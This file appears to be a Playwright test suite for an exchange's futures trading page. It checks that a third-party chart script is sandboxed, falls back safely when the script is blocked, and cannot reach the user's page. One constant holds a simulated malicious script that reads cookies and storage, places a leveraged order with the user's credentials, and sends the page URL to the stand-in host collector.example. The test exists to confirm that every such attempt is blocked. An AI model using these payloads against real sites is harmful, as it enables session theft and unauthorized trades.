import { CHART_SCRIPT, choose, drawnByVendor, expect, openTrading, test, type Page } from '../support/exchange.ts'
import { requestedOrders, waitForCode } from '../support/trading.ts'

test.beforeEach(drawnByVendor)

const frameElement = (page: Page) => page.locator('iframe[title="Price chart of BTCUSDC"]')
const ownChart = (page: Page) => page.getByRole('application', { name: /^Chart of BTCUSDC\. In/ })

/** The document that loads the third party's script. */
async function chartHost(page: Page) {
  await expect(frameElement(page)).toBeVisible()
  const frame = await (await frameElement(page).elementHandle())?.contentFrame()
  if (!frame) throw new Error('the chart has no frame')
  return frame
}

/** The vendor's chart is loaded and visible. */
async function expectVendorChart(page: Page) {
  await expect(page.getByRole('region', { name: 'Price chart' }).getByText('Loading the chart')).toHaveCount(0)
  await expect(frameElement(page)).toHaveCSS('opacity', '1')
}

test('the vendor’s chart has an origin of its own, and the market, zone and theme', async ({ page, exchange }) => {
  await openTrading(page, exchange)
  await expectVendorChart(page)
  await expect(frameElement(page)).toHaveAttribute(
    'sandbox',
    'allow-scripts allow-popups allow-popups-to-escape-sandbox',
  )
  const host = await chartHost(page)
  expect(await host.evaluate(() => window.origin)).toBe('null')
  const inner = host.childFrames()[0]
  expect(Object.fromEntries(new URL(inner?.url() ?? '').searchParams)).toEqual({
    symbol: 'BTCUSDC',
    interval: '1',
    timezone: 'Etc/UTC',
    theme: 'dark',
    locale: 'en',
  })

  await page.getByRole('button', { name: 'Switch to the light theme' }).click()
  await page.getByRole('radiogroup', { name: 'Language' }).getByText(/^PL/).click()
  await expect
    .poll(
      () =>
        page
          .frames()
          .map((frame) => frame.url())
          .filter((url) => url.includes('/charts/frame')),
      'the frames of the chart',
    )
    .toEqual([expect.stringMatching(/theme=light.*locale=pl/)])
})

test('a blocked vendor script falls back to our own chart, with the positions’ lines', async ({ page, exchange }) => {
  let blocked = true
  await page.route(CHART_SCRIPT, (route) => (blocked ? route.abort('blockedbyclient') : route.fallback()))
  await openTrading(page, exchange)
  await expect(page.getByText('The full chart did not load.')).toBeVisible()
  await expect(ownChart(page)).toBeVisible()
  const line = (name: string) => ownChart(page).getByText(name, { exact: true }).first()
  for (const name of ['SL LONG', 'TP LONG (limit)']) await expect(line(name)).toBeVisible()
  await expect(frameElement(page)).toHaveCount(0)

  blocked = false
  await page.getByRole('region', { name: 'Price chart' }).getByRole('button', { name: 'Try again' }).click()
  await expectVendorChart(page)
  await expect(ownChart(page)).toHaveCount(0)
})

test('the simple chart loads nothing of others', async ({ page, exchange }) => {
  const foreign: string[] = []
  page.on('request', (request) => void (request.url().includes('/charts/') && foreign.push(request.url())))
  await choose(page.context(), {}, { futuresChart: 'own' })
  await openTrading(page, exchange)
  await expect(ownChart(page)).toBeVisible()
  await waitForCode(page)
  expect(foreign).toEqual([])
})

/** Attacks by a malicious vendor script; each reports its result. */
const HOSTILE = `(async () => {
  const attempts = {
    'the page around it': () => parent.document.title,
    'the top page': () => { top.location.href = '/charts/stolen'; return 'navigated' },
    cookies: () => document.cookie,
    'local storage': () => localStorage.length,
    'session storage': () => sessionStorage.length,
    databases: () => indexedDB.open('x') && 'opened',
    'an order': async () => (await fetch('/futures/api/user/orders/create', { method: 'POST', credentials: 'include', headers: { 'content-type': 'application/json' }, body: '{"market":"BTC-USDC","type":"LONG","amount":"50","leverage":10}' })).status,
    'a beacon': async () => navigator.sendBeacon('/futures/api/user/orders/create', new Blob(['{}'])) && new Promise((resolve) => setTimeout(resolve, 300, 'queued')),
    'an image to anywhere': () => new Promise((resolve, reject) => { const image = new Image(); image.onload = () => resolve('loaded'); image.onerror = () => reject(new Error('refused')); image.src = 'https://collector.example/?' + location.href }),
    'a form': () => { const form = document.createElement('form'); form.method = 'post'; form.action = '/futures/api/user/orders/create'; document.body.append(form); form.submit(); return 'submitted' },
  }
  const got = {}
  for (const [name, attempt] of Object.entries(attempts)) {
    try { got[name] = String(await attempt()) } catch (error) { got[name] = 'refused' }
  }
  window.got = got
})()`

test('a hostile vendor script reaches neither page, storage nor exchange', async ({ page, exchange, troubles }) => {
  await page.route(CHART_SCRIPT, (route) =>
    route.fulfill({
      contentType: 'text/javascript',
      headers: { 'cross-origin-resource-policy': 'cross-origin' },
      // It says at once that it is ready: in time, however slow the machine, and the frame stays.
      body: `parent.postMessage({ type: 'chart-ready' }, '*');${HOSTILE};window.ChartWidget = { create() { return {} } }`,
    }),
  )
  const elsewhere: string[] = []
  page.on('response', (response) => {
    if (response.url().includes('collector.example')) elsewhere.push(response.url())
  })
  await openTrading(page, exchange)
  const host = await chartHost(page)
  await expect.poll(() => host.evaluate(() => 'got' in window), 'all attacks were tried').toBe(true)
  const got = await host.evaluate(() => (window as unknown as { got: Record<string, string> }).got)
  const allowed = Object.keys(got).filter((name) => got[name] !== 'refused')
  expect(['a beacon', 'a form'], 'those of which only the exchange knows').toEqual(expect.arrayContaining(allowed))
  await expect(page).toHaveURL(/\/futures\/market\/BTC-USDC$/)
  expect(await requestedOrders(exchange)).toEqual([])
  expect((await exchange.journal()).counts['/futures/api/user/orders/create']).toBeUndefined()
  expect(elsewhere).toEqual([])

  // Blocked attempts are reported by the browser; nothing else may have failed.
  const reported =
    /csp: (connect-src|img-src|form-action)|Content Security Policy|sandbox|Unsafe attempt|Failed to|foreign request: https:\/\/collector/
  expect(troubles.filter((trouble) => !reported.test(trouble))).toEqual([])
  troubles.length = 0
})
